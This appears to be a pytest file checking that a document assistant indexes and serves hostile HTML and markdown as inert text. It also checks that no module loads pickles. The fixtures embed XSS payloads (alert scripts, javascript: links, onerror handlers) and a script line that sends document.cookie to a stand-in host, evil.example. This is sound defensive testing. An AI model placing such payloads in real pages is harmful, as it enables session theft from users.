"""Hostile documents are indexed as text and served as text: markup, script, `javascript:`
links, zero-width characters, very long lines, a 10 MB file (the page side is in test_browser)."""

from __future__ import annotations

import time
from pathlib import Path

from fastapi.testclient import TestClient

from assistant.config import Settings
from assistant.serving.api import create_app
from assistant.serving.assistant import Assistant

from .conftest import HashEmbedder

ZW = "\u200b\u200c\u200d\u2060\ufeff"
PAGE = (
    "<html><head><title>Notice <script>alert(1)</script></title></head><body>"
    "<script>" + "window.location='https://evil.example/?'+document.cookie;" * 185_000 + "</script>"
    '<p onclick="alert(2)">Le pare-feu bloque les connexions entrantes depuis 2021.'
    f" Ce{ZW}tte phrase cache des caractères invisibles.</p>"
    '<a href="javascript:alert(3)">cliquez ici</a><iframe src="https://evil.example"></iframe>'
    "</body></html>"
)
MARKDOWN = (
    "# Hostile markdown\n\n"
    "A [harmless looking link](javascript:alert(4)) and <img src=x onerror=alert(5)> in a note.\n\n"
    + " ".join(f"word{i}" for i in range(20_000))  # one line of about 150,000 characters
    + "\n"
)


def test_hostile_documents_are_indexed_and_served_as_text(tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "notice.html").write_text(PAGE, encoding="utf-8")
    (corpus / "note.md").write_text(MARKDOWN, encoding="utf-8")
    assert (corpus / "notice.html").stat().st_size > 10 * 1024 * 1024
    settings = Settings(corpus=corpus, index=tmp_path / "index")
    embedder = HashEmbedder()
    began = time.perf_counter()
    report = Assistant(settings, embedder).build()
    assert report.documents == 2 and not report.skipped
    assert time.perf_counter() - began < 120
    with TestClient(create_app(settings, Assistant(settings, embedder))) as client:
        page = client.get("/api/documents/notice").json()
        # the script of 10 MB is not text of the document; the visible text is, invisible characters kept
        assert "evil.example" not in page["text"] and "alert" not in page["text"]
        assert "pare-feu" in page["text"] and f"Ce{ZW}tte" in page["text"]
        assert page["title"] == "Notice"
        note = client.get("/api/documents/note").json()
        assert "[harmless looking link](javascript:alert(4))" in note["text"]
        r = client.post("/api/answer", json={"question": "harmless looking link javascript"})
        assert r.status_code == 200 and r.headers["content-type"] == "application/json"
        cited = r.json()["citations"]
        assert any("javascript:alert(4)" in c["text"] for c in cited)
        for c in cited:  # quoted exactly, long line or not
            text = (page if c["document_id"] == "notice" else note)["text"]
            assert text[c["start"] : c["end"]] == c["text"]


def test_nothing_is_unpickled() -> None:
    """No module reads pickles (index, caches, model files): pickle would run code from disk."""
    source = Path(__file__).resolve().parents[1] / "src" / "assistant"
    for path in source.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        assert "import pickle" not in text and "allow_pickle=True" not in text, path
        assert "torch.load(" not in text and "joblib" not in text, path
